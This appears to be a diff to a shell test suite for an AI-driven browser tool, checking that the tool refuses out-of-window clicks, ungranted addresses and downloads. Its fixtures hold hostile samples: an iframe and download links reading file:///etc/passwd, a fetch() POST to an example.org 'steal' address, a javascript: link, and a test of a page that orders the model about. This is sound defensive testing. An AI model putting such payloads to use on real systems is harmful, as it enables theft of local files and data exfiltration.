@@ -114,7 +114,7 @@ END
 }
 check 'pages open in tabs' tabs
 
-# --- constrained actions ---------------------------------------------------------------------------------------------
+# --- constrained actions: pattern 127 of bad inputs, with test_stale.c ---------------------------------------------------------------------------------------------
 cannot() { # ANSWER
     acts 1 <<END && complains 'does not allow byte'
 {"action":"open_file","path":"hello.html"}
@@ -127,6 +127,11 @@ no_page() { acts 1 <<'END' && complains 'does not allow byte'; }
 {"action":"click","element":1,"how":"left"}
 END
 check 'without a page there is nothing to click' no_page
+beyond() {
+    spec '' 'files: true, pictures: true'
+    cannot '{"action":"click_at","x":1024,"y":5}' && cannot '{"action":"click_at","x":5,"y":-1}'
+}
+check 'nor outside of the window' beyond
 spec '' 'data: true'
 not_granted() { acts 1 <<'END' && complains 'does not allow byte'; }
 {"action":"open_file","path":"hello.html"}
@@ -152,7 +157,7 @@ END
     [ "$(grep -c 'let such an address be opened' "$work/out")" -eq 4 ] && [ "$(grep -c 'grants no such host' "$work/out")" -eq 2 ] &&
         prints_not 'root:' && prints_not '"record' && prints 'a data page'
 }
-check 'addresses that are not granted are not opened' addresses
+check 'addresses that are not granted are not opened (pattern 130)' addresses
 cat >"$w/out.html" <<'END'
 <title>Ways out</title><iframe src="file:///etc/passwd"></iframe><img src="http://example.org/x.png"><p id=o>none</p>
 <script>fetch('http://example.org/steal', {method: 'POST', body: 'x'}).catch(() => { o.textContent += 'fetch refused'; });
@@ -253,7 +258,7 @@ orders() {
 {"action":"done","answer":""}
 END
 }
-check 'a page that orders the model about gets no address opened' orders
+check 'a page that orders the model about gets no address opened (pattern 125)' orders
 
 # --- downloads -------------------------------------------------------------------------------------------------------
 downloads() {
@@ -268,6 +273,17 @@ END
     ends 0 "$viv" undo -w "$w" && [ ! -e "$w/got.txt" ]
 }
 check 'a download is saved where the model says, and that is undone' downloads
+
+no_files() { # pattern 130 of bad inputs: what is no download of the page's
+    printf '<title>D</title><a download="f.txt" href="file:///etc/passwd">File</a> <a download="j.txt" href="javascript:\x27text\x27">Script</a>' >"$w/n.html"
+    acts 1 --json --yes <<'END' && complains 'does not allow byte' && prints_not 'root:x' && [ ! -e "$w/got.txt" ]
+{"action":"open_file","path":"n.html"}
+{"action":"click","element":1,"how":"left"}
+{"action":"click","element":2,"how":"left"}
+{"action":"save","download":1,"folder":".","name":"got.txt"}
+END
+}
+check 'files of the machine and scripts are no downloads' no_files
 
 # --- hostile pages ---------------------------------------------------------------------------------------------------
 printf '<title>Many</title><p>top<script>document.write("<button>b</button>".repeat(100000))</script>' >"$w/many.html"
